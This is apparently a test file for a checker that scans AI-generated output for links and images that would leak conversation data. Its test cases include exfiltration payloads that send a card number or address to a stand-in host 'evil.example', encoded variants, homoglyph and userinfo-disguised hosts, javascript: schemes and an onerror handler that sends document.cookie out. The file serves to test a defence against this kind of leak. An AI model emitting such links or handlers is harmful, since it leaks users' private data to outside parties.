import { expect, test } from 'vitest'
import type { OutputOptions } from '../checks/options.ts'
import { inspectOutput } from '../inspect-output.ts'
import { neutralizeLinks } from './neutralize.ts'

const options: OutputOptions = {
  allowedHosts: ['docs.example.com', '*.cdn.example.com'],
  conversation:
    'My card is 4111 1111 1111 1111 and the door code is 77310 please. I live in Oak Street 12, Springfield.',
}
const rulesOf = (text: string, over: OutputOptions = options): string[] =>
  inspectOutput(text, over).findings.map(({ rule }) => rule ?? '')

const secret = 'the card is 4111 1111 1111 1111'
const hidden = Buffer.from(secret).toString('base64')

test.each([
  ['load-conversation', `![x](https://evil.example/p.png?d=${encodeURIComponent(secret)})`],
  ['load-conversation', `![x](https://evil.example/${hidden})`],
  ['load-conversation', `![x](<https://evil.example/?q=4111111111111111> "t")`],
  ['load-conversation', `![x][1]\n\n[1]: https://evil.example/?q=4111111111111111`],
  ['load-conversation', `<img src="https://evil.example/?q=4111111111111111">`],
  ['load-conversation', `<img/src=//evil.example/?q=4111111111111111>`],
  ['load-conversation', `<img srcset="a.png 1x, https://evil.example/4111111111111111.png 2x">`],
  ['load-conversation', `<div style="background:url('https://evil.example/4111111111111111')">`],
  ['load-conversation', `<meta http-equiv=refresh content="0; url=https://evil.example/?4111111111111111">`],
  ['load-conversation', `<iframe src="https:\\\\evil.example/?q=4111111111111111"></iframe>`],
  ['load-conversation', `![x](https://docs.example.com@evil.example/?q=4111111111111111)`],
  ['link-conversation', `[more](https://evil.example/?q=4111111111111111)`],
  ['link-conversation', `See https://evil.example/?q=4111111111111111 for more.`],
  ['link-conversation', `<https://evil.example/4111-1111-1111-1111>`],
  ['link-conversation', `www.evil.example/?q=4111111111111111`],
  ['link-conversation', `<a href="https://evil.example/?q=Oak+Street+12%2C+Springfield">x</a>`],
  [
    'load-encoded',
    `![x](https://evil.example/?d=${Buffer.from('something that was never said').toString('base64url')})`,
  ],
  [
    'load-encoded',
    `![x](https://evil.example/${Buffer.from('something never said').toString('hex')}.png`.replace('.png', '/a.png)'),
  ],
  ['load-conversation', `<img src="https://${Buffer.from(secret).toString('hex')}.evil.example/a.png">`],
  ['load-template', '![x](https://evil.example/?q={{conversation}})'],
  ['load-off-list', '![x](https://evil.example/a.png)'],
  ['link-off-list', '[x](https://other.example/guide)'],
  ['disguised-host', '[x](https://docs.example.com@other.example/guide)'],
  ['disguised-host', '[x](https://d\u043ecs.example.com/guide)'],
  ['script-scheme', '[x](javascript:alert(1))'],
  ['script-scheme', '[x](java&#115;cript&colon;alert(1))'],
  ['script-scheme', '<a href="  jAva\tscript:alert(1)">x</a>'],
  ['script-scheme', '[x](vbscript:msgbox)'],
  ['document-data', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
  ['handler-request', '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">'],
])('the rule %s finds %j', (rule, text) => {
  expect(rulesOf(text)).toContain(rule)
})

test.each([
  'Read [the guide](https://docs.example.com/start?page=2#top) or https://img.cdn.example.com/a.png.',
  '![logo](https://img.cdn.example.com/logo.png)',
  '[local](/docs/start) and ![pic](./a.png) and [mail](mailto:a@example.com)',
  '![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA)',
])('allowed: %j', (text) => {
  expect(rulesOf(text)).toEqual([])
})

test.each([
  'See https://en.wikipedia.org/wiki/Damerau%E2%80%93Levenshtein_distance and https://github.com/a/b/commit/9fceb02d0ae598e95dc970b74767f19372d61af8.',
  '![build](https://img.shields.io/badge/build-passing-green)',
  'https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit',
  'GET https://api.example.org/users/{id}/orders?limit=20',
  'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
])('without a list, ordinary addresses are no findings: %j', (text) => {
  expect(rulesOf(text, { conversation: options.conversation ?? '' })).toEqual([])
})

test('an address the conversation gave in full carries nothing out', () => {
  const address = 'https://shop.example.org/orders/4111-1111-1111'
  expect(rulesOf(`Here: ${address}`, { conversation: `my order is at ${address} is it late?` })).toEqual([])
})

test('values of a vault count as conversation', () => {
  const text = '[x](https://evil.example/?q=anna77)'
  expect(rulesOf(text, { knownValues: (value) => value === 'anna77', checks: ['links'] })).toEqual([
    'link-conversation',
  ])
})

test('C34 C54 neutralized text holds no link to fetch and keeps labels', () => {
  const text = `A ![chart](https://evil.example/?q=4111111111111111) and [more](https://evil.example/?q=4111111111111111), <img src="https://evil.example/?q=4111111111111111">.`
  const clean = neutralizeLinks(text, inspectOutput(text, options).findings)
  expect(clean).toBe(
    'A chart \u2039link removed: evil[.]example\u203a and more \u2039link removed: evil[.]example\u203a, \u2039link removed: evil[.]example\u203a.',
  )
  expect(inspectOutput(clean, options).findings).toEqual([])
})
